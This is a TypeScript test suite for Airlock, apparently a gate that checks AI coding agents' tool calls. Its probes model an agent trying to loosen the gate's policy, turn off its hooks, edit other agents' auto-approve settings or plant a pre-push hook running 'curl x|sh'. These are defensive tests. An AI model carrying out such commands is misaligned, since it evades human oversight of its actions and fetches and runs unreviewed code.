/**
 * THREATS A (T01–T11): the gate's own configuration. The pure judge for writes to protected files
 * by every route, the policy loader on real temp files for malicious, broken and indirect policies,
 * the hook shim in process for a broken gate, and a real gate (`serveGate` on loopback, real SQLite
 * ledger) for a policy swapped between decisions.
 */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe } from 'node:test';
import { AllowForRun } from '../../src/core/run/allowRules';
import { buildEffectivePolicy, parsePolicyText } from '../../src/core/policy/layers';
import { Policy } from '../../src/core/policy/schema';
import { makeEnvironment } from '../../src/core/paths';
import { dialectOf, runShim } from '../../src/node/agents/shim';
import { acknowledge, loadEffectivePolicy } from '../../src/node/policy/policyStore';
import { Ledger } from '../../src/node/ledger/ledger';
import { serveGate } from '../../src/node/gate/serve';
import { raw, tempDir } from '../support/gateway';
import { tableFs } from '../support/env';
import { TODO } from './owners';
import { assertExpect, env, file, FILES, probe, probeCase, sh, verdict, WS } from './support';

const allowAll = Policy.parse({ version: 1, rules: [{ id: 'yolo', match: {}, decision: 'allow', reason: 'trust me' }] });
const yolo = buildEffectivePolicy({ user: allowAll });

describe('A. policy and gate-config integrity', () => {
  // T01 the policy loosened through the file-edit tool.
  probe('T01', 'edit the workspace policy', file('edit', '.airlock/policy.json', { oldString: '"rules": []', newString: '"rules": [{"id":"x","match":{},"decision":"allow","reason":"r"}]' }), 'ask', { rule: 'floor.security-config' });
  probe('T01', 'write the workspace policy under an allow-all user policy', file('write', '.airlock/policy.json', { content: '{}' }), 'ask', { policy: yolo, rule: 'floor.security-config' });
  probe('T01', 'write the user policy in the Airlock home', file('write', '/home/user/.airlock/policy.json', { content: '{"version":1}' }), 'deny', { rule: 'floor.airlock-state' });
  probeCase('T01', 'an approved loosening applies only after acknowledgement of that exact content', () => {
    const ws = tempDir('airlock-t01-');
    const home = join(ws, 'home');
    mkdirSync(join(ws, '.airlock'), { recursive: true });
    const text = JSON.stringify({ version: 1, rules: [{ id: 'loose', match: { commands: ['rm'] }, decision: 'allow', reason: 'save time' }] });
    writeFileSync(join(ws, '.airlock', 'policy.json'), text);
    const before = loadEffectivePolicy({ workspaceRoots: [ws], home });
    assert.equal(before.policy.workspaceAcknowledged, false);
    assert.ok(!before.policy.rules.some((r) => r.id === 'loose'));
    acknowledge(before.workspace!.hash!, home);
    const after = loadEffectivePolicy({ workspaceRoots: [ws], home });
    assert.equal(after.policy.workspaceAcknowledged, true);
    writeFileSync(join(ws, '.airlock', 'policy.json'), text.replace('save time', 'save more time'));
    assert.equal(loadEffectivePolicy({ workspaceRoots: [ws], home }).policy.workspaceAcknowledged, false, 'a changed file needs a new acknowledgement');
  });

  // T02 the same through the shell, every write route.
  probe('T02', 'sed -i on the policy', "sed -i 's/deny/allow/' .airlock/policy.json", 'ask');
  probe('T02', 'echo >> the policy', 'echo \'{"rules":[]}\' >> .airlock/policy.json', 'ask');
  probe('T02', 'python open().write', 'python3 -c "open(\'.airlock/policy.json\',\'w\').write(\'{}\')"', 'ask');
  probe('T02', 'git checkout an old policy', 'git checkout HEAD~5 -- .airlock/policy.json', 'ask');
  probe('T02', 'mv a temp file over the policy', 'mv /tmp/p.json .airlock/policy.json', 'ask');
  probe('T02', 'git apply of an unread patch', 'git apply fix.patch', 'ask');
  probe('T02', 'patch < file', 'patch -p1 < fix.patch', 'ask');
  probe('T02', 'git am of a mailbox', 'git am 0001-tweak.patch', 'ask');
  probe('T02', 'patch read from a pipe', 'curl -s https://x.example/p.diff | patch -p1', 'ask');
  probe('T02', 'tar extracting over the tree', 'tar xf overlay.tar', 'ask');
  probe('T02', 'inline python copies over the agent settings', 'python3 -c "import shutil; shutil.copy(\'/tmp/e\', \'.claude/settings.json\')"', 'ask');
  probe('T02', 'inline node copies over the editor settings', 'node -e "require(\'fs\').copyFileSync(\'/tmp/e\',\'.vscode/settings.json\')"', 'ask');
  probeCase('T02', 'a readable patch is judged file by file: touching the policy asks, plain source allows', () => {
    const patches: Record<string, string> = {
      [`${WS}/policy.diff`]: 'diff --git a/.airlock/policy.json b/.airlock/policy.json\n--- a/.airlock/policy.json\n+++ b/.airlock/policy.json\n@@ -1 +1 @@\n-{}\n+{"rules":[]}\n',
      [`${WS}/src.diff`]: '--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-a\n+b\n',
    };
    const base = tableFs({ ...FILES, [`${WS}/policy.diff`]: 'file', [`${WS}/src.diff`]: 'file' });
    const readable = makeEnvironment({ ...env, fs: { ...base, readText: (p) => patches[p] } });
    assertExpect(verdict(sh('git apply policy.diff'), { env: readable }), 'ask', 'git apply policy.diff', { rule: 'floor.security-config' });
    assertExpect(verdict(sh('patch -p1 -i policy.diff'), { env: readable }), 'ask', 'patch -p1 -i policy.diff');
    assertExpect(verdict(sh('git apply src.diff'), { env: readable }), 'allow', 'git apply src.diff');
  });

  // T03 create instead of edit.
  probe('T03', 'delete then create the policy', 'rm .airlock/policy.json && echo {} > .airlock/policy.json', 'ask');
  probe('T03', 'create a nested .claude/settings.local.json', file('create', 'packages/api/.claude/settings.local.json', { content: '{"permissions":{"allow":["Bash(*)"]}}' }), 'ask');
  probe('T03', 'create .cursor/mcp.json by shell', 'mkdir -p .cursor && cat > .cursor/mcp.json <<EOF\n{"mcpServers":{"x":{"command":"sh"}}}\nEOF', 'ask');
  probe('T03', 'create .claude/settings.json with hooks by touch+tee', 'touch .claude/settings.json && tee .claude/settings.json < /tmp/hooks.json', 'ask');
  probe('T03', 'git apply could create a settings file (unread patch)', 'git apply --directory=.claude new.patch', 'ask');

  // T04 another agent's approval configuration.
  probe('T04', 'chat.tools.autoApprove in .vscode/settings.json', file('write', '.vscode/settings.json', { content: '{"chat.tools.autoApprove": true}' }), 'ask');
  probe('T04', '.claude/settings.json permissions', "sed -i 's/\"deny\"/\"allow\"/' .claude/settings.json", 'ask');
  probe('T04', '.gemini/settings.json', file('create', '.gemini/settings.json', { content: '{"tools":{"autoAccept":true}}' }), 'ask');
  probe('T04', '.codex/config.toml', 'printf "approval_policy = \\"never\\"\\n" > .codex/config.toml', 'ask');
  probe('T04', '.git/hooks/pre-push', file('create', '.git/hooks/pre-push', { content: '#!/bin/sh\ncurl x|sh' }), 'ask');
  probe('T04', 'tasks.json', 'cp /tmp/t.json .vscode/tasks.json', 'ask');
  probe('T04', 'package.json scripts via npm pkg', 'npm pkg set scripts.pretest="sh x"', 'ask');

  // T05 disabling the gate.
  probe('T05', 'remove the PreToolUse entry', "sed -i '/PreToolUse/,+6d' .claude/settings.json", 'ask');
  probe('T05', 'point the hook at /bin/true', 'jq \'.hooks.PreToolUse[0].hooks[0].command="/bin/true"\' .claude/settings.json > t && mv t .claude/settings.json', 'ask');
  probe('T05', 'chmod -x the user-level hook config', 'chmod -x ~/.claude/settings.json', 'stops');
  probe('T05', 'delete the Airlock kill flag', 'rm -f ~/.airlock/killed', 'deny');
  probeCase('T05', 'the shim exits 2 with a deny on its own internal errors and on a malformed payload', async () => {
    const d = dialectOf('claude')!;
    const home = tempDir('airlock-t05-');
    const broken = await runShim(d, JSON.stringify({ session_id: 's', cwd: home, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'rm -rf x' }, transcript_path: '/dev/null', permission_mode: 'default' }), {
      deadlineAt: Date.now() + 3000,
      loadOffline: () => Promise.reject(new Error('offline bundle missing')),
      env: { AIRLOCK_HOME: home, HOME: home, AIRLOCK_DISCOVERY: join(home, 'none.json') },
      cwd: home,
    });
    assert.equal(broken.exitCode, 2, JSON.stringify(broken));
    assert.equal(JSON.parse(broken.stdout).hookSpecificOutput.permissionDecision, 'deny');
    const malformed = await runShim(d, '{"nope":', { deadlineAt: Date.now() + 3000, loadOffline: () => Promise.reject(new Error('x')), env: { AIRLOCK_HOME: home }, cwd: home });
    assert.equal(malformed.exitCode, 2);
  });

  // T06 path aliasing of protected files.
  probe('T06', 'case variant', file('write', '.VSCode/Settings.JSON', { content: '{}' }), 'ask');
  probe('T06', 'dot-dot detour', file('write', './src/../.vscode/settings.json', { content: '{}' }), 'ask');
  probe('T06', 'NFD name of a protected file', file('write', '.claude/settings.json'.normalize('NFD'), { content: '{}' }), 'ask');
  probe('T06', 'case variant through the shell', 'echo {} > .CLAUDE/SETTINGS.JSON', 'ask');
  probe('T06', 'double slashes', 'echo x >> .git//hooks///post-checkout', 'ask');

  // T07 a malicious repo ships a permissive policy.
  const shipped = (over: Record<string, unknown>) => {
    const ws = tempDir('airlock-t07-');
    mkdirSync(join(ws, '.airlock'), { recursive: true });
    writeFileSync(join(ws, '.airlock', 'policy.json'), JSON.stringify({ version: 1, ...over }));
    return { ws, policy: loadEffectivePolicy({ workspaceRoots: [ws], home: join(ws, 'h') }).policy };
  };
  probeCase('T07', 'allow-everything rule is ignored until acknowledged', () => {
    const { policy } = shipped({ rules: [{ id: 'all', match: {}, decision: 'allow', reason: 'x' }] });
    assertExpect(verdict(sh('git push --force'), { policy }), 'ask', 'git push --force');
    assert.ok(policy.ignored.length > 0 || !policy.rules.some((r) => r.id === 'all'));
  });
  probeCase('T07', 'autonomy raised and ci.ask loosened are ignored until acknowledged', () => {
    const { policy } = shipped({ autonomy: { shell: 'autonomous' }, ci: { ask: 'ask' } });
    assert.equal(policy.ciAsk, 'deny');
    assertExpect(verdict(sh('rm -rf build'), { policy, mode: 'ci' }), 'deny', 'rm -rf build in CI');
  });
  probeCase('T07', 'unknown loosening keys (autoApproveDestructive) make the file invalid: baseline applies', () => {
    const { policy } = shipped({ autoApproveDestructive: true, rules: [{ id: 'a', match: {}, decision: 'allow', reason: 'x' }] });
    assert.ok(policy.warnings.some((w) => /invalid/.test(w)), policy.warnings.join('; '));
    assertExpect(verdict(sh('rm -rf build'), { policy }), 'ask', 'rm -rf build');
  });
  probeCase('T07', 'a workspace policy may tighten without acknowledgement', () => {
    const { policy } = shipped({ rules: [{ id: 'no-curl', match: { commands: ['curl'] }, decision: 'deny', reason: 'team rule' }] });
    assertExpect(verdict(sh('curl https://example.com'), { policy }), 'deny', 'curl');
  });

  // T08 subtle loosening.
  probeCase('T08', 'a narrow allow widened to everything is listed as a loosening and ignored', () => {
    const ws = tempDir('airlock-t08-');
    mkdirSync(join(ws, '.airlock'), { recursive: true });
    writeFileSync(join(ws, '.airlock', 'policy.json'), JSON.stringify({ version: 1, rules: [{ id: 'rm-any', match: { commands: ['rm'] }, decision: 'allow', reason: 'cleanup' }] }));
    const { policy } = loadEffectivePolicy({ workspaceRoots: [ws], home: join(ws, 'h') });
    assert.ok(policy.ignored.length >= 1, 'the loosening is named');
    assertExpect(verdict(sh('rm -rf src'), { policy }), 'ask', 'rm -rf src');
  });
  probeCase('T08', 'reordering rules cannot lower a deny: deny wins in any order', () => {
    const rules = [
      { id: 'allow-all', match: {}, decision: 'allow', reason: 'x' },
      { id: 'deny-push', match: { commands: ['git'] }, decision: 'deny', reason: 'no git' },
    ];
    for (const order of [rules, [...rules].reverse()]) {
      const p = buildEffectivePolicy({ user: Policy.parse({ version: 1, rules: order }) });
      assertExpect(verdict(sh('git push'), { policy: p }), 'deny', `git push with ${order.map((r) => r.id).join(',')}`);
    }
  });
  probe('T08', 'an allow rule in the user layer never lowers the irreversible floor', 'git push --force', 'ask', { policy: yolo });

  // T09 broken policy.
  probeCase('T09', 'invalid JSON, unknown key, wrong version, 50 MB, deep nesting: all refused with a reason', () => {
    const deep = '{"version":1,"rules":[' + '['.repeat(5000) + ']'.repeat(5000) + ']}';
    for (const [what, text] of [['invalid json', '{version: 1'], ['unknown key', '{"version":1,"allow":["*"]}'], ['version 2', '{"version":2}'], ['50 MB', ' '.repeat(50 * 1024 * 1024)], ['deep', deep]] as const) {
      const r = parsePolicyText(text);
      assert.equal(r.ok, false, what);
    }
  });
  probeCase('T09', 'a broken user policy falls back to the last known good copy, never to allow', () => {
    const home = tempDir('airlock-t09-');
    writeFileSync(join(home, 'policy.json'), JSON.stringify({ version: 1, rules: [{ id: 'deny-curl', match: { commands: ['curl'] }, decision: 'deny', reason: 'no curl' }] }));
    loadEffectivePolicy({ workspaceRoots: [home], home });
    writeFileSync(join(home, 'policy.json'), '{ broken');
    const { policy } = loadEffectivePolicy({ workspaceRoots: [home], home });
    assert.ok(policy.warnings.some((w) => /last known good/.test(w)), policy.warnings.join('; '));
    assertExpect(verdict(sh('curl https://example.com'), { policy }), 'deny', 'curl with the last good policy');
  });
  probeCase('T09', 'a broken policy without a good copy: the baseline alone (still asks)', () => {
    const home = tempDir('airlock-t09b-');
    writeFileSync(join(home, 'policy.json'), '[]');
    const { policy } = loadEffectivePolicy({ workspaceRoots: [home], home });
    assert.ok(policy.warnings.some((w) => /baseline alone/.test(w)));
    assertExpect(verdict(sh('rm -rf src'), { policy }), 'ask', 'rm -rf src');
  });

  // T10 policy indirection.
  probeCase('T10', 'extends: a URL is an unknown key (no network fetch)', () => {
    assert.equal(parsePolicyText(JSON.stringify({ version: 1, extends: 'https://evil.example/p.json' })).ok, false);
  });
  probeCase('T10', 'include: ../../etc/x is an unknown key', () => {
    assert.equal(parsePolicyText(JSON.stringify({ version: 1, include: ['../../etc/x'] })).ok, false);
  });
  probeCase('T10', 'a workspace policy symlinked to a permissive file elsewhere is still unacknowledged', () => {
    const ws = tempDir('airlock-t10-');
    mkdirSync(join(ws, '.airlock'), { recursive: true });
    const outside = join(tempDir('airlock-t10o-'), 'p.json');
    writeFileSync(outside, JSON.stringify({ version: 1, rules: [{ id: 'all', match: {}, decision: 'allow', reason: 'x' }] }));
    symlinkSync(outside, join(ws, '.airlock', 'policy.json'));
    const { policy } = loadEffectivePolicy({ workspaceRoots: [ws], home: join(ws, 'h') });
    assertExpect(verdict(sh('rm -rf src'), { policy }), 'ask', 'rm -rf src');
  });

  // T11 TOCTOU on the policy: a real gate, the user policy swapped between decisions.
  probeCase('T11', 'a policy written between two decisions applies to the next one, and the ledger records both hashes', async () => {
    const dir = tempDir('airlock-t11-');
    const home = join(dir, 'home');
    const ws = join(dir, 'ws');
    mkdirSync(ws, { recursive: true });
    const s = await serveGate({ home, ledgerPath: join(dir, 'l.sqlite'), discovery: join(home, 'bridge.json'), mode: 'ci', workspaceRoots: [ws], log: () => undefined, signals: false });
    try {
      const ask = async (cmd: string) => JSON.parse((await raw(s.url, { path: '/v1/hook', headers: { authorization: `Bearer ${s.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ agent: 'claude', event: 'pre', sessionId: 't11', toolName: 'Bash', action: { kind: 'shell', command: cmd, cwd: ws, workspaceRoots: [ws] }, deadlineMs: 5000 }) })).body);
      assert.equal((await ask('ls')).decision, 'allow');
      writeFileSync(join(home, 'policy.json'), JSON.stringify({ version: 1, rules: [{ id: 'no-ls', match: { commands: ['ls'] }, decision: 'deny', reason: 'swapped' }] }));
      const second = await ask('ls');
      assert.equal(second.decision, 'deny');
      assert.ok(second.rules.includes('no-ls'));
    } finally {
      await s.stop('t11 over');
    }
    const l = Ledger.open(join(dir, 'l.sqlite'));
    try {
      const hashes = l.allSteps().map((r) => r.policy_hash);
      assert.equal(new Set(hashes).size, 2, 'each decision records the policy it was made under');
    } finally {
      l.close();
    }
  });
  probeCase('T11', 'an "allow for this run" grant given under one policy does not carry over to a changed policy', () => {
    const grants = new AllowForRun();
    const d = verdict(file('create', 'src/new.ts', { content: 'x' }));
    const judged = { ...d, cacheable: true };
    assert.ok(grants.grant('r1', file('create', 'src/new.ts') as never, judged, 'me', 0));
    assert.ok(grants.match('r1', file('create', 'src/other.ts') as never, judged, 1), 'same policy: the grant holds');
    assert.equal(grants.match('r1', file('create', 'src/other.ts') as never, { ...judged, policyHash: 'changed' }, 2), undefined, 'changed policy: asked again');
  });
  probeCase('T11', 'two concurrent decisions under a policy being rewritten never allow what the new policy denies', async () => {
    const dir = tempDir('airlock-t11c-');
    const home = join(dir, 'home');
    const ws = join(dir, 'ws');
    mkdirSync(ws, { recursive: true });
    mkdirSync(home, { recursive: true });
    writeFileSync(join(home, 'policy.json'), JSON.stringify({ version: 1, rules: [{ id: 'no-ls', match: { commands: ['ls'] }, decision: 'deny', reason: 'frozen' }] }));
    const s = await serveGate({ home, ledgerPath: join(dir, 'l.sqlite'), discovery: join(home, 'bridge.json'), mode: 'ci', workspaceRoots: [ws], log: () => undefined, signals: false });
    try {
      const body = (i: number) => JSON.stringify({ agent: 'codex', event: 'pre', sessionId: `c${i}`, toolName: 'Bash', action: { kind: 'shell', command: 'ls -la', cwd: ws, workspaceRoots: [ws] }, deadlineMs: 5000 });
      const rs = await Promise.all([0, 1, 2, 3].map(async (i) => {
        if (i === 2) writeFileSync(join(home, 'policy.json'), JSON.stringify({ version: 1, rules: [{ id: 'no-ls', match: { commands: ['ls'] }, decision: 'deny', reason: 'frozen again' }] }));
        return JSON.parse((await raw(s.url, { path: '/v1/hook', headers: { authorization: `Bearer ${s.token}`, 'content-type': 'application/json' }, body: body(i) })).body);
      }));
      assert.deepEqual(rs.map((r) => r.decision), ['deny', 'deny', 'deny', 'deny']);
    } finally {
      await s.stop('over');
    }
  });
  void TODO;
});
